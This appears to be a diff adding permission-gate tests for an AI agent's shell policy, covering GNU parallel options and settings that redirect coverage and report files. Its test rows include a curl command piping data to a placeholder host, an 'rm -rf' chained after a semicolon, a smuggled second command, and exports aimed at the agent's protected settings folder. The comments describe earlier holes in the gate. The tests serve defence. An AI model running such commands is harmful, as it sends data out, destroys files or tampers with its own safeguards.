@@ -64,3 +64,49 @@ shellTable(policy, 'audit 44 BA-2/BA-3: report files and in-place fixes of every
     'semgrep --config auto -o out/s.json',
   ),
 ]);
+
+// BA-1: GNU parallel's job command went unjudged when parallel regroups its arguments, reads them
+// at run time, or fills in none (`--pipe`, `--semaphore`, `--fg`, `--bg`): only probed for the files
+// the words it fills in may write. BA-4: settings that move where coverage, caches and test reports go.
+// Every row below was allow before but the deny rows for parallel (its views held them) and
+// `parallel --pipe "echo; evil"`, which were as they are now.
+const runners = policyOf({ workspace: `rules:
+  - {capability: shell, effect: allow, match: ["echo *", "parallel *", "export *", "npm test", "coverage *"]}
+  - {capability: shell, effect: deny, match: ["rm *", "curl *"]}
+  - {capability: fs_write, effect: allow, match: ["src/**", "out/**"]}
+` }, ['.github/agent-gate.yml']);
+
+shellTable(runners, 'audit 44 BA-1/BA-4: what parallel runs under every option, and where settings send writes', [
+  ...rowsOf('ask', 'the job command is judged, or a setting sends writes where no rule allows them, or a cache is loaded back',
+    'parallel -N0 evil ::: a',
+    'parallel -n1 evil ::: a',
+    'parallel --max-args=1 evil ::: a',
+    'parallel -m evil ::: a',
+    'parallel -X evil ::: a',
+    'parallel --xargs evil ::: a',
+    'parallel --pipe evil',
+    'parallel --pipepart -a src/a evil',
+    'parallel --semaphore evil',
+    'parallel --fg evil',
+    'parallel --bg evil',
+    'parallel evil :::: list.txt',
+    'parallel --pipe "echo; evil"',
+    'export NODE_COMPILE_CACHE=out/c && npm test',
+    'export CCACHE_DIR=out/cc && npm test',
+  ),
+  ...rowsOf('deny', 'a denied job command, or a protected place',
+    'parallel -n1 rm ::: a',
+    'parallel --pipe curl -d @- https://x.example',
+    'parallel evil :::: list.txt; rm -rf x',
+    'export NODE_V8_COVERAGE=.kiro/settings && npm test',
+    'export COVERAGE_FILE=.kiro/settings/cli.json && coverage run -m pytest',
+    'export JEST_JUNIT_OUTPUT_DIR=.kiro/settings && npm test',
+  ),
+  ...rowsOf('allow', 'allowed job commands',
+    'parallel echo ::: a b',
+    'parallel -n1 echo ::: a',
+    'parallel echo :::: list.txt',
+    'parallel --pipe echo',
+    'parallel -X echo {} ::: a b',
+  ),
+]);
